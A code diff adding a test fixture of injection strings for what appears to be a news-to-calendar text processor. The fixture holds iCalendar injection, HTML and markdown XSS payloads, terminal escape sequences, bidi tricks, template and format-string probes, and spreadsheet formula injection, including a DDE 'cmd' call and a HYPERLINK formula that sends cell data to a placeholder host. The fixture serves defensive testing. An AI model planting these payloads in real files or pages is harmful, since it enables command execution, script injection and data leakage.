@@ -19,6 +19,36 @@ DAY = '2023-06-18'
 FIFTY = 50
 BLANKS = re.compile('[\t\n\x0b\x0c\r \x85\xa0\u2028\u2029]+')
 
+# What has broken out of some format or program before.
+WIDE = '\u00e9\u5317\U0001f54a'
+INJECTIONS = [
+    'x\r\nBEGIN:VALARM\r\nTRIGGER:-PT1M\r\nEND:VALARM',
+    'x\nEND:VEVENT\nEND:VCALENDAR\nBEGIN:VCALENDAR',
+    'x;ALTREP="cid:a":b, c\\n d\\, e\\',
+    *['a' * n + WIDE * 9 for n in range(45, 53)],  # each octet at the fold
+    '[x](javascript:alert(1)) ![y](http://e.example/i.png)',
+    '<http://e.example> http://e.example www.e.example a@b.example',
+    '<script>alert(1)</script><img src=x onerror=alert(2)>',
+    '" onmouseover="alert(3)" \' onfocus=\'alert(4)',
+    '</style></title></textarea></p></blockquote><!-- x',
+    ']]> <![CDATA[ <?x y?> <!DOCTYPE a> &lt;b&gt; &#0; &amp;amp;',
+    '| a | b |\n|---|---|\n| c | d |',
+    '```\ncode\n```\n~~~\n    x\n# y\n> z\n- w\n1. v\n---',
+    '*a* _b_ `c` ~~d~~ [^1] \\ [e]: f $g$ :smile:',
+    '\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://e.example\x1b\\',
+    '\x9b31m \x9d0;title\x9c \x7f\x08\x08',
+    '\u202eevil\u202c \u2066x\u2069 \u200f\u061c \ufeff',
+    *[sign + 'cmd|" /C calc"!A0' for sign in '=+-@\t\uff1d'],
+    '=HYPERLINK("http://e.example?x="&A1,"y")',
+    'x\ty\t_\t1\n# sent_id = s1-1\n\n1\tz',
+    '{"a":"b\\u0022}", \u2028\u2029 ${x} {{7*7}} %s%n',
+]
+INJECTED = '''PORT SELBY, June 18 -- On Friday {0} Mara Ilves {0} met {0} Ilse Brandt in
+{0} Port Selby.
+
+On Monday, "{0}," said Otto Berg of {0}. {0} will visit Halvern on July 3.
+'''
+
 ARTICLES = {
     'empty': '',
     'one byte': 'x',
@@ -31,6 +61,7 @@ ARTICLES = {
     'markup': '<b>On Friday</b> Mara & Ilse met in `Port` *Selby*.</script>\n',
     'unresolved': 'They met on the 40th of May, 30 February 2023 and in '
                   'the year 99999999999.\n',
+    'injections': '\n'.join(map(INJECTED.format, INJECTIONS)),
 }
 
 
